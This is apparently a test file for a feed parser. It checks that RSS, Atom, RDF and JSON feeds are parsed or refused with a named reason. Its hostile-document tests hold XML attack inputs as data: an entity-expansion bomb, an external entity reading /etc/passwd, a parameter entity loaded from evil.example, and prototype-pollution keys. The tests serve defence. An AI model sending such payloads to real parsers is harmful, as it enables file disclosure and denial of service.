import { describe, expect, test } from 'bun:test'
import type { Reading } from './document.ts'
import { readFeed } from './parse.ts'

const HEAD =
  '<?xml version="1.0"?><rss version="2.0"><channel><title>Kestrel</title><link>https://kestrel.example/</link>'
const TAIL = '</channel></rss>'
const ONE = '<item><title>One</title><guid isPermaLink="false">1</guid></item>'

function read(text: string): Reading {
  return readFeed(new TextEncoder().encode(text), null, 'https://kestrel.example/feed')
}

function titles(reading: Reading): (string | null)[] | string {
  return 'feed' in reading ? reading.feed.entries.map((entry) => entry.title) : reading.refusal.code
}

describe('hostile documents end in a named refusal or harmless text', () => {
  const bomb = Array.from(
    { length: 20 },
    (_, level) => `<!ENTITY a${level} "${`&a${level - 1};`.repeat(10)}">`,
  ).join('')

  test.each([
    [
      'entity bomb',
      `<!DOCTYPE rss [<!ENTITY a0 "lol">${bomb}]>${HEAD}<item><title>&a19;</title></item>${TAIL}`,
    ],
    [
      'external entity',
      `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>${HEAD}<item><title>&x;</title></item>${TAIL}`,
    ],
    [
      'parameter entity',
      `<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]>${HEAD}${ONE}${TAIL}`,
    ],
    ['nesting', `${HEAD}<item>${'<a>'.repeat(20_000)}x${'</a>'.repeat(20_000)}</item>${TAIL}`],
    ['nesting without end', `${HEAD}<item>${'<a>'.repeat(20_000)}`],
    ['prototype tag', `${HEAD}<item><__proto__><polluted>1</polluted></__proto__></item>${TAIL}`],
    ['constructor tag', `${HEAD}<constructor><prototype>1</prototype></constructor>${TAIL}`],
    ['unended comments', `${HEAD}<item><title>${'<!--'.repeat(100_000)}</title></item>${TAIL}`],
    ['unended character data', `${HEAD}<item><title>${'<![CDATA['.repeat(100_000)}</title></item>${TAIL}`],
    ['JSON nesting', `{"version":"https://jsonfeed.org/version/1","items":${'['.repeat(100_000)}`],
  ])('%s', (_, text) => {
    expect(titles(read(text))).toBe('malformed_feed')
  })

  test('a flood of tags or attributes is too large before it is read', () => {
    expect(titles(read(`${HEAD}${'<item><title>x</title></item>'.repeat(150_000)}${TAIL}`))).toBe('too_large')
    const attributes = Array.from({ length: 450_000 }, (_, index) => `a${index}="1"`).join(' ')
    expect(titles(read(`${HEAD}<item ${attributes}/>${TAIL}`))).toBe('too_large')
  })

  test.each(['author', 'AUTHOR', 'managingEditor'])('a name without end in <%s> is left out', (tag) => {
    const reading = read(
      `${HEAD}<item><title>One</title><${tag}>${'('.repeat(30_000)}</${tag}></item>${ONE}${TAIL}`,
    )
    expect(titles(reading)).toEqual(['One', 'One'])
    expect('feed' in reading && reading.feed.entries[0]?.author).toBeNull()
    expect(titles(read(`${HEAD}${ONE}<item><author>${'('.repeat(30_000)}`))).toEqual(['One'])
  })

  test('of an endless table of contents the first thousand are looked up', () => {
    const names = Array.from({ length: 3000 }, (_, index) => `https://kestrel.example/${index}`)
    const table = names.map((name) => `<rdf:li rdf:resource="${name}"/>`).join('')
    const items = names.map((name) => `<item rdf:about="${name}"><title>${name}</title></item>`).join('')
    const reading = read(
      `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">` +
        `<channel><title>K</title><items><rdf:Seq>${table}</rdf:Seq></items></channel>${items}</rdf:RDF>`,
    )
    expect(titles(reading)).toHaveLength(1000)
  })

  test('nothing leaks into the prototypes', () => {
    read(`${HEAD}<item><__proto__><polluted>1</polluted></__proto__></item>${TAIL}`)
    read(
      '{"version":"https://jsonfeed.org/version/1","__proto__":{"polluted":1},"items":[{"id":"1","__proto__":{"polluted":1}}]}',
    )
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
  })

  test('deep markup inside an entry is only markup', () => {
    expect(
      titles(
        read(
          `${HEAD}<item><title>One</title><description>${'<a>'.repeat(20_000)}</description></item>${TAIL}`,
        ),
      ),
    ).toEqual(['One'])
  })

  test('a character reference to an entity nobody declared stays text', () => {
    expect(titles(read(`${HEAD}<item><title>&unknown; &#0; ok</title></item>${TAIL}`))).toEqual([
      '&unknown; \ufffd ok',
    ])
  })
})

describe('refusals name the reason', () => {
  test.each([
    ['', 'empty_body'],
    [' \n\ufeff', 'empty_body'],
    ['<!DOCTYPE html><html><body>Sign in</body></html>', 'html_not_feed'],
    ['<html><body><rss version="2.0"></rss></body></html>', 'html_not_feed'],
    ['<p>Moved</p>', 'html_not_feed'],
    ['<?xml version="1.0"?><urlset><url/></urlset>', 'not_a_feed'],
    ['hello', 'not_a_feed'],
    [`<!DOCTYPE rss [${'<!ENTITY '.repeat(10_000)}${HEAD}`, 'not_a_feed'],
    ['{"error":"no"}', 'not_a_feed'],
    ['[]', 'not_a_feed'],
    ['{', 'not_a_feed'],
    ['{"version":"https://jsonfeed.org/version/1","items":[{', 'malformed_feed'],
    [`${HEAD}<item><title>cut`, 'malformed_feed'],
    ['<rss>', 'malformed_feed'],
  ])('%p is %s', (text, code) => {
    expect(titles(read(text))).toBe(code)
  })
})

describe('quiet and damaged feeds', () => {
  test.each([
    '<rss version="2.0"><channel/></rss>',
    '<rss version="2.0"><channel></channel></rss>',
    '<feed xmlns="http://www.w3.org/2005/Atom"/>',
    `${HEAD}${TAIL}`,
    '{"version":"https://jsonfeed.org/version/1","items":[]}',
  ])('no entry is no failure: %p', (text) => {
    expect(titles(read(text))).toEqual([])
  })

  test('whole entries of a cut document are kept, and said to be cut', () => {
    const reading = read(`${HEAD}${ONE}<item><title>Tw`)
    expect(titles(reading)).toEqual(['One'])
    expect('feed' in reading && reading.feed.truncated).toBe(true)
    expect('feed' in read(`${HEAD}${ONE}${TAIL}`)).toBe(true)
  })

  test('what follows the document does not matter', () => {
    expect(titles(read(`${HEAD}${ONE}${TAIL}\n<!-- cached 0.2 s --><script>x()</script>`))).toEqual(['One'])
  })
})
